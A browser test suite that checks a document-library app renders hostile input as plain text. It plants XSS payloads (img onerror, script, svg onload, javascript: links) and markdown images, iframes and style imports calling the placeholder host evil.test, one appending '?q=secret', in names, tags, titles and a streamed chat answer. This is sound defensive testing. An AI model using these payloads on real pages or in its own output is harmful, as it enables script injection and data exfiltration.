"""Text of documents and models in a real browser: it is shown letter by letter and makes nothing happen."""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from explorer import Library, libraries
from tests.browser.conftest import App, off_origin, record_requests, start_app, stop_app
from tests.chat_server import serving

NAME = "<img src=x onerror=window.ran=1> ![x](evil.test).md"
PAYLOADS = """
![inline](http://evil.test/inline.png) ![split](http://evil.test/split.png?q=secret)

![reference][r] and [link](http://evil.test/link) and [script](javascript:window.ran=1)

[r]: http://evil.test/reference.png

<img src="http://evil.test/html.png" onerror="window.ran=1"> <script>window.ran=1</script>
<svg onload="window.ran=1"></svg> <iframe src="http://evil.test/frame"></iframe> <http://evil.test/auto>

| ![cell](http://evil.test/cell.png) | <style>@import "http://evil.test/style.css"</style> |
|---|---|
| https://evil.test/bare | $\\href{http://evil.test}{x}$ :material/home: |
"""
TAG = "<img src=//evil.test/tag onerror=window.ran=1>"
TITLE = "![title](//evil.test/title.png) <img src=x onerror=window.ran=1>"
SHELF = "<img src=//evil.test/s>"
FRONT = """---
title: '<img src=x onerror=window.ran=1> ![t](http://evil.test/front.png)'
author: <script>window.ran=1</script>
---
"""
TEXT = f"{FRONT}# Passwords <img src=x onerror=window.ran=1>\n\nThe wolf keeps the passwords.\n{PAYLOADS}"
QUESTION = "Who keeps the passwords?"
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.blockedURI));
"""
# Anything that could fetch from, or lead to, another place; looked for in shadow roots too.
FOREIGN = """() => {
  const found = [];
  const look = (root) => root.querySelectorAll("*").forEach((element) => {
    for (const name of ["src", "href", "srcset", "action", "data", "poster"]) {
      const value = element.getAttribute(name);
      if (!value || /^(data|blob):/.test(value)) continue;
      if (new URL(value, location.href).host !== location.host) found.push(value);
    }
    if (element.shadowRoot) look(element.shadowRoot);
  });
  look(document);
  return found;
}"""


class Slowly:
    """The payloads a few characters at a time, so that the page shows every stage of them."""

    def __iter__(self) -> Iterator[str]:
        text = f"The wolf [1]. {PAYLOADS}"
        for start in range(0, len(text), 7):
            time.sleep(0.05)
            yield text[start : start + 7]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    place = tmp_path_factory.mktemp("hostile")
    (place / NAME).write_text(TEXT, encoding="utf-8")
    with Library(place / "home" / "default") as library:
        outcomes = library.add([place / NAME])
        assert outcomes[0].status == "added", outcomes
        library.tag([library.documents()[0].id], add=[TAG])
        library.conversations.create(TITLE)
        libraries.rename(library.folder, SHELF)
    with serving(pieces=Slowly()) as server:
        running = start_app(
            place / "home" / "default", EXPLORER_CHAT_URL=server.address, EXPLORER_CHAT_MODEL="m"
        )
        yield running
        stop_app(running)


@pytest.fixture
def tab(chromium: Browser, hostile: App) -> Iterator[Page]:
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.add_init_script(WATCH)
    page.set_default_timeout(60_000)
    asked = record_requests(page)
    yield page
    nothing_happened(page)
    context.close()
    assert off_origin(asked, hostile.url) == []


def nothing_happened(page: Page) -> None:
    assert page.evaluate("window.ran") is None
    assert page.evaluate("window.violations") == []
    assert page.evaluate(FOREIGN) == []


def test_a_hit_and_its_passage(tab: Page, hostile: App) -> None:
    tab.goto(f"{hostile.url}/search?question=passwords&mode=By+words")
    title = tab.locator(".dx-hit-title").first
    expect(title).to_have_text(NAME, timeout=60_000)
    expect(tab.locator(".dx-hits")).to_contain_text("![reference][r]")  # what is no address stands as text
    nothing_happened(tab)
    title.click()
    expect(tab.locator(".dx-viewer-title")).to_have_text(NAME)
    expect(tab.locator(".dx-viewer-text")).to_contain_text('<img src="http://evil.test/html.png"')
    expect(tab.locator(".dx-viewer-text mark").first).to_be_in_viewport()


def test_names_tags_and_titles_on_every_page(tab: Page, hostile: App) -> None:
    with Library(hostile.home) as library:
        document = library.documents()[0].id
    seen = {
        "": (SHELF, NAME, TAG),
        f"?document={document}": (NAME, "![t](", TAG),
        "search?question=passwords&mode=By+words": (NAME,),
        "chat": (TITLE[:38],),  # cut in the list
        "map": (),
        "settings": (SHELF,),
    }
    for address, words in seen.items():
        tab.goto(f"{hostile.url}/{address}")
        expect(tab.get_by_test_id("stSidebar")).to_be_visible()
        for text in words:
            expect(tab.locator("body")).to_contain_text(text)
        tab.wait_for_timeout(500)
        nothing_happened(tab)


def test_an_answer_while_it_streams_and_after(tab: Page, hostile: App) -> None:
    tab.goto(f"{hostile.url}/chat")
    tab.locator('[data-testid="stChatInput"] textarea').fill(QUESTION)
    tab.keyboard.press("Enter")
    expect(tab.locator(".dx-question")).to_have_text(QUESTION)
    talk = tab.locator(".dx-talk")
    stages = set()
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not tab.locator(".dx-sources").count():
        nothing_happened(tab)
        stages.add(talk.inner_text())
        time.sleep(0.1)
    assert len(stages) > 3, "it was seen to grow"
    expect(talk).to_contain_text("![inline](http://evil.test/inline.png)")
    expect(talk).to_contain_text("<script>window.ran=1</script>")
    tab.reload()
    chip = tab.locator(".dx-answer .dx-chip").first
    expect(chip).to_have_text("1")
    chip.click()
    expect(tab.locator(".dx-viewer-title")).to_have_text(NAME)
